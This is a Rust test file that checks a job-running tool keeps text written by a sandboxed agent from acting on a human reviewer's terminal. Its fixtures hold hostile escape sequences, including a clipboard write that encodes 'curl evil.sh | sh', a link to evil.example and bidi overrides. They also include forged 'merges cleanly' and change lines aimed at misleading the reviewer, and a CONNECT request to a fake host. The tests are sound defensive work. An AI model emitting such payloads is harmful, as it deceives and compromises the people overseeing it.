//! Agent text never acts on the reviewer's terminal (issue 27, part 1): an agent in a Docker
//! job (runc, and gVisor) names files, writes subjects and author names, leaves untracked
//! names and runs commands carrying OSC 52 (clipboard), OSC 8 (links), CSI clear/erase/cursor
//! moves, CR, newlines and a bidi override; every human output of the host's commands holds
//! no ESC, CR or C1 byte and no forged line, and each `--json` still parses to the exact
//! strings.

use std::process::Command;

use crate::fixtures::{FixtureRepo, TestHome, docker_available, text};
use serde_json::Value;

const NAME: &str = "evil\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}[2Jname.txt";
const SUBJECT: &str =
    "see \u{1b}]8;;https://evil.example/\u{1b}\\here\u{1b}]8;;\u{1b}\\ \u{1b}[2J\u{1b}[H\rover";
const AUTHOR: &str = "Mallory \u{1b}]0;pwned\u{7}";
const FORGED: &str = "x\nmerge     into main: merges cleanly (reviewed: no changes to CI)";
const BIDI: &str = "bidi \u{202e}txt.exe \u{9b}2J";
const UNTRACKED: &str = "u\u{1b}[1A\u{1b}[2K\n  committed    modified   README-looks-legit";
/// In the exec's argv, so it is in `execs`' COMMAND column.
const COMMAND_MARK: &str = "# \u{1b}[2J\u{1b}]52;c;AAAA\u{7}";

/// The agent's script: names, commits and output, all from inside the job.
fn attack() -> String {
    let q = |s: &str| format!("'{}'", s.replace('\'', "'\\''"));
    format!(
        "set -e\n\
         printf x > {name}\n\
         git add -A\n\
         GIT_AUTHOR_NAME={author} git commit -q -m {subject}\n\
         printf y > {forged}\n\
         git add -A\n\
         git commit -q -m {bidi}\n\
         printf z > {untracked}\n\
         printf 'out \\033]52;c;QUFBQQ==\\007 \\302\\233 2J \\342\\200\\256 over\\rwrite\\n'\n\
         true {mark}\n",
        name = q(NAME),
        author = q(AUTHOR),
        subject = q(SUBJECT),
        forged = q(FORGED),
        bidi = q(BIDI),
        untracked = q(UNTRACKED),
        mark = q(COMMAND_MARK),
    )
}

/// Every byte a terminal acts on that must never reach a person's terminal: ESC, CR, C1
/// (as UTF-8), and the bidi override.
fn unsafe_bytes(output: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(output);
    text.char_indices()
        .filter(|(_, c)| {
            matches!(
                c,
                '\u{1b}' | '\r' | '\u{7}' | '\u{80}'..='\u{9f}' | '\u{202e}'
            )
        })
        .map(|(at, c)| {
            let from = text[..at]
                .char_indices()
                .rev()
                .nth(20)
                .map_or(0, |(i, _)| i);
            format!("{:?} in {:?}", c, &text[from..at])
        })
        .collect()
}

fn assert_safe(what: &str, output: &std::process::Output) {
    for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
        let found = unsafe_bytes(bytes);
        assert!(found.is_empty(), "`{what}` {stream}: {found:?}");
    }
}

/// Runs `paddock ARGS` on a pseudo-terminal (as a person would), its output back without
/// the terminal's own newline translation.
fn on_terminal(home: &TestHome, args: &[&str]) -> std::process::Output {
    let mut inner = home.cmd(args);
    let line = std::iter::once(inner.get_program())
        .chain(inner.get_args())
        .map(|a| format!("'{}'", a.to_string_lossy().replace('\'', "'\\''")))
        .collect::<Vec<_>>()
        .join(" ");
    let envs: Vec<(String, String)> = inner
        .get_envs()
        .filter_map(|(k, v)| Some((k.to_str()?.into(), v?.to_str()?.into())))
        .collect();
    let mut command = Command::new("script");
    command
        .args(["-qec", &format!("stty -onlcr; {line}"), "/dev/null"])
        .envs(envs)
        .stdin(std::process::Stdio::null());
    let _ = &mut inner;
    command.output().expect("script runs")
}

fn agent_text_stays_off_the_terminal(runtime: &str, test: &str) {
    if !docker_available(test) {
        return;
    }
    let repo = FixtureRepo::new();
    let home = TestHome::new();
    let image = crate::fixtures::test_image();
    let job = home.json(&[
        "create",
        "--repo",
        repo.path().to_str().unwrap(),
        "--runtime",
        runtime,
        "--image",
        &image,
        "--json",
    ]);
    let id = text(&job, "id");
    let run = home.run(&["exec", &id, "--", "sh", "-c", &attack()]);
    assert!(run.status.success(), "{run:?}");

    for args in [
        vec!["log", &id],
        vec!["show", &id],
        vec!["diff", &id, "--stat"],
        vec!["ls"],
        vec!["events"],
        vec!["execs", &id],
        vec!["conflicts"],
        vec!["logs", &id],
        vec!["sweep", "--dry-run"],
        vec!["doctor"],
    ] {
        let output = home.run(&args);
        if args[0] != "logs" {
            assert_safe(&args.join(" "), &output);
        }
        if args[0] == "show" {
            let stdout = String::from_utf8_lossy(&output.stdout);
            let merges = stdout.lines().filter(|l| l.starts_with("merge ")).count();
            assert!(merges <= 1, "a name forged a merge line:\n{stdout}");
            assert!(
                !stdout
                    .lines()
                    .any(|l| l.starts_with("  committed    modified   README")),
                "an untracked name forged a change line:\n{stdout}"
            );
        }
    }
    // Replays escape on a terminal; `--raw` and a pipe keep the bytes.
    let exec = home.json(&["execs", &id, "--json"])[0]["id"]
        .as_str()
        .expect("an exec id")
        .to_string();
    for args in [vec!["logs", &id], vec!["execs", &id, &exec]] {
        let output = on_terminal(&home, &args);
        assert!(
            String::from_utf8_lossy(&output.stdout).contains("out \\e]52"),
            "{args:?} printed: {output:?}"
        );
        assert_safe(&format!("{} (terminal)", args.join(" ")), &output);
    }
    // A merge of the branch (its names land in the fixture's checkout) prints safely too.
    let merge = home.run(&["merge", &id]);
    assert!(merge.status.success(), "{merge:?}");
    assert_safe("merge", &merge);
    let raw = home.run(&["logs", &id]);
    assert!(
        String::from_utf8_lossy(&raw.stdout).contains("out \u{1b}]52"),
        "{raw:?}"
    );

    // JSON stays lossless: the exact strings come back.
    let log = home.json(&["log", &id, "--json"]);
    let summaries: Vec<&str> = log
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|c| c["summary"].as_str())
        .collect();
    assert!(summaries.contains(&BIDI), "{summaries:?}");
    assert!(
        log.as_array()
            .expect("a list")
            .iter()
            .any(
                |c| c["author"].as_str() == Some(AUTHOR.trim_end_matches('\u{7}'))
                    || c["author"].as_str() == Some(AUTHOR)
            ),
        "{log}"
    );
    let show = home.run(&["show", &id, "--json"]);
    assert_safe("show --json", &show);
    let show: Value = serde_json::from_slice(&show.stdout).expect("show --json parses");
    let paths: Vec<&str> = show["changes"]["committed"]
        .as_array()
        .into_iter()
        .chain(show["changes"]["uncommitted"].as_array())
        .flatten()
        .filter_map(|c| c["path"].as_str())
        .collect();
    for name in [NAME, FORGED, UNTRACKED] {
        assert!(paths.contains(&name), "{name:?} not in {paths:?}");
    }
    home.ok(&["rm", &id, "--force"]);
}

#[test]
fn agent_text_stays_off_the_terminal_runc() {
    agent_text_stays_off_the_terminal("docker", "agent_text_stays_off_the_terminal_runc");
}

#[test]
fn agent_text_stays_off_the_terminal_under_gvisor() {
    agent_text_stays_off_the_terminal("runsc", "agent_text_stays_off_the_terminal_under_gvisor");
}

/// An egress host name with escape sequences (a CONNECT the proxy refuses) reaches `paddock
/// events` only as visible escapes, and `events --json` keeps it exactly.
#[test]
fn an_egress_host_with_escapes_stays_off_the_terminal() {
    if !docker_available("an_egress_host_with_escapes_stays_off_the_terminal") {
        return;
    }
    let repo = FixtureRepo::new();
    let home = TestHome::new();
    let daemon = crate::api::Daemon::start_with_runtime(&home, &[], "docker");
    let job = home.create_docker(&repo, &["--allow", "127.0.0.1:9"]);
    let id = text(&job, "id");
    let host = "evil\u{1b}]52;c;QUFBQQ==\u{7}\u{1b}[2J.example";
    let script = format!(
        "h=${{HTTPS_PROXY#http://}}; exec 3<>/dev/tcp/${{h%:*}}/${{h##*:}} && \
         printf 'CONNECT %s:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' $'{}' >&3; sleep 1; true",
        host.replace('\u{1b}', "\\e").replace('\u{7}', "\\a")
    );
    home.run(&["exec", &id, "--", "bash", "-c", &script]);
    // The daemon relays the proxy's refusals into the event log.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let events = loop {
        let events = home.run(&["events", "--json"]);
        let text = String::from_utf8_lossy(&events.stdout).into_owned();
        if text.contains("egress.denied") || std::time::Instant::now() > deadline {
            break text;
        }
        std::thread::sleep(std::time::Duration::from_millis(500));
    };
    let denied: Vec<Value> = events
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|e| e["type"] == "egress.denied")
        .collect();
    assert!(
        denied
            .iter()
            .any(|e| e["detail"].to_string().contains("evil\\u001b]52")),
        "no refusal with the host kept exactly: {events}"
    );
    let table = home.run(&["events"]);
    assert_safe("events", &table);
    assert!(String::from_utf8_lossy(&table.stdout).contains("egress.denied"));
    daemon.stop();
    home.ok(&["rm", &id, "--force"]);
}
